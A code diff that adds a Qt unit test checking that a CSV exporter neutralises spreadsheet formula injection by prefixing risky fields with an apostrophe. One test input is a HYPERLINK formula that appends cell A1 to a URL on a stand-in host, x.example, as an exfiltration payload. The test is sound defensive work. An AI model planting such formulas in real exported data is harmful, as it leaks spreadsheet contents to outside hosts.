@@ -13,7 +13,27 @@ private slots:
     void errors_data();
     void errors();
     void roundTrip();
+    void spreadsheetsNeverRunAField();
 };
+
+// A report's sheet or file name reaches exported cells: a spreadsheet must show it, not run it.
+void tst_Csv::spreadsheetsNeverRunAField()
+{
+    const QByteArray doc = Csv::document(
+        {{QStringLiteral("=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"), QStringLiteral("-0.5"),
+          QStringLiteral("+84 912 345"), QStringLiteral("@SUM(A1:A9)"), QStringLiteral("\t=1+1"),
+          QStringLiteral("-"), QStringLiteral("Sheet1!C7"), QStringLiteral("12"), QString()}});
+    const CsvResult back = Csv::parse(QString::fromUtf8(doc.mid(3)));
+    QVERIFY2(back.error.isEmpty(), qPrintable(back.error));
+    QCOMPARE(back.rows.first().fields,
+             (QStringList{QStringLiteral("'=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")"),
+                          QStringLiteral("-0.5"), QStringLiteral("'+84 912 345"),
+                          QStringLiteral("'@SUM(A1:A9)"), QStringLiteral("'\t=1+1"),
+                          QStringLiteral("'-"), QStringLiteral("Sheet1!C7"), QStringLiteral("12"),
+                          QString()}));
+    // what a script reads (joinRow) is left as it was
+    QVERIFY(Csv::joinRow({QStringLiteral("=1+1")}).startsWith(QLatin1Char('=')));
+}
 
 void tst_Csv::parse_data()
 {
